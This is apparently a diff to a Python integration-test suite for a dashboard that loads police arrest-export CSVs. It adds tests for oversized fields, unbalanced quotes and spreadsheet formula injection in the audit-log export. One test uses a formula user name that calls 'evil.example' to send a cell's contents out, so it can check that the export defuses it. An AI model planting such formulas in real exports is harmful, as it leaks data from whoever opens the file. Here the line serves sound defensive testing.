@@ -8,10 +8,12 @@ as an operator would do it. Expected figures come from the files themselves (sha
 the committed catchment and the export's coordinates), not from the code under test.
 """
 
+import csv
+import io
 import os
 import subprocess
 import sys
-from datetime import date
+from datetime import date, timedelta
 
 import geopandas as gpd
 import psycopg2
@@ -20,10 +22,15 @@ import shapely
 from psycopg2 import sql
 from psycopg2.extensions import parse_dsn
 
+from accounts.store import verify
+from dashboard.audit import export_csv
+from dashboard.audit_log.data import search
 from dashboard.pagelist import PAGE_SPECS
 from db.connect import connect
 from geo.places import CATCHMENT_FILE
 from ingest.defaults import install_if_absent
+from program import clock
+from program.access import User
 from tests.conftest import SCRATCH_SUFFIX, _scratch_dsn, app_login, configured_dsn
 from tests.support.pages import ROOT, dashboard
 
@@ -53,10 +60,10 @@ def fetch(url: str, statement: str, params=()) -> list[tuple]:
         conn.close()
 
 
-@pytest.fixture(scope="module")
-def fresh() -> str:
-    """A new, empty database, migrated and loaded through the command line."""
-    url = _scratch_dsn(configured_dsn(), SCRATCH_SUFFIX + "_first")
+def fresh_database(suffix: str) -> tuple[str, str]:
+    """A new, empty database ``<db><suffix>``, migrated and loaded with the real BPD export
+    through the command line; its owner URL and the first migrate's output."""
+    url = _scratch_dsn(configured_dsn(), SCRATCH_SUFFIX + suffix)
     admin = psycopg2.connect(configured_dsn())
     admin.autocommit = True
     name = sql.Identifier(parse_dsn(url)["dbname"])
@@ -66,9 +73,15 @@ def fresh() -> str:
     admin.close()
     migrated = cli(url, "db.migrate")
     assert migrated.returncode == 0, migrated.stderr
-    MIGRATED["stdout"] = migrated.stdout
     loaded = cli(url, "ingest", "contacts", str(BPD_FILE), "--format", "bpd-arrests")
     assert loaded.returncode in (0, 1), loaded.stderr  # 1: rows without coordinates
+    return url, migrated.stdout
+
+
+@pytest.fixture(scope="module")
+def fresh() -> str:
+    """A new, empty database, migrated and loaded through the command line."""
+    url, MIGRATED["stdout"] = fresh_database("_first")
     return url
 
 
@@ -302,3 +315,64 @@ def test_empty_or_invalid_catchments_count_as_none_for_the_banner(bad_areas):
         assert any("No LEAD catchment is in force on any day" in w.value for w in at.warning)
     finally:
         fetch(bad_areas, closing, (None, list(kept)))
+
+
+# --- broken files and exports on the real data ----------------------------------------------
+
+STATE = (
+    "SELECT (SELECT count(*) FROM contact), (SELECT count(*) FROM import_batch), "
+    "(SELECT sum(version) FROM data_version)"
+)
+
+
+def bpd_head(rows: int) -> list[str]:
+    """The export's header and first ``rows`` rows, as lines."""
+    with open(BPD_FILE, newline="") as file:
+        return [next(file) for _ in range(rows + 1)]
+
+
+def test_a_20_mib_value_in_the_export_exits_2_with_a_plain_reason(fresh, tmp_path):
+    lines = bpd_head(300)
+    lines[2] = lines[2].replace(",Unknown Offense,", "," + "U" * 20 * 2**20 + ",", 1)
+    path = tmp_path / "bpd_huge.csv"
+    path.write_text("".join(lines))
+    before = fetch(fresh, STATE)
+    done = cli(fresh, "ingest", "contacts", str(path), "--format", "bpd-arrests")
+    assert done.returncode == 2, done.stderr[:500]
+    assert done.stderr.startswith("ingest: bpd_huge.csv, line 3: a value is longer than")
+    assert "Traceback" not in done.stderr and len(done.stderr) < 500
+    assert fetch(fresh, STATE) == before  # nothing loaded, no batch, same data version
+
+
+def test_an_unclosed_quote_in_the_export_is_one_rejected_row_with_its_reason(fresh, tmp_path):
+    lines = bpd_head(300)
+    assert lines[1].endswith(')"\r\n') or lines[1].endswith(')"\n')
+    lines[1] = lines[1].replace(')"', ")", 1)  # "Location 1" opens a quote, never closed
+    path = tmp_path / "bpd_quote.csv"
+    path.write_text("".join(lines))
+    done = cli(fresh, "ingest", "contacts", str(path), "--format", "bpd-arrests", "--dry-run")
+    assert done.returncode == 1, done.stderr[:500]
+    output = done.stdout + done.stderr
+    assert "holds whole rows: is a quote unbalanced?" in output
+    assert "Traceback" not in output
+
+
+def test_the_audit_log_export_neutralises_a_formula_typed_as_a_user_name(on_fresh):
+    """Anyone at the sign-in form can put a formula in the audit log; an admin's export
+    of the log must not hand it to a spreadsheet."""
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+    conn = connect(on_fresh)
+    try:
+        assert not verify(conn, formula, "wrong password").ok
+    finally:
+        conn.close()
+    admin = User(ADMIN["username"], ADMIN["role"])
+    today = clock.today()
+    table = search(admin, start=today - timedelta(days=1), end=today, actor="hyperlink").drop(
+        columns="matched"
+    )
+    assert formula in table.actor.tolist()
+    text = export_csv(table, user=admin, what="Audit log", period="today").decode()
+    cells = {cell for line in csv.reader(io.StringIO(text)) for cell in line}
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
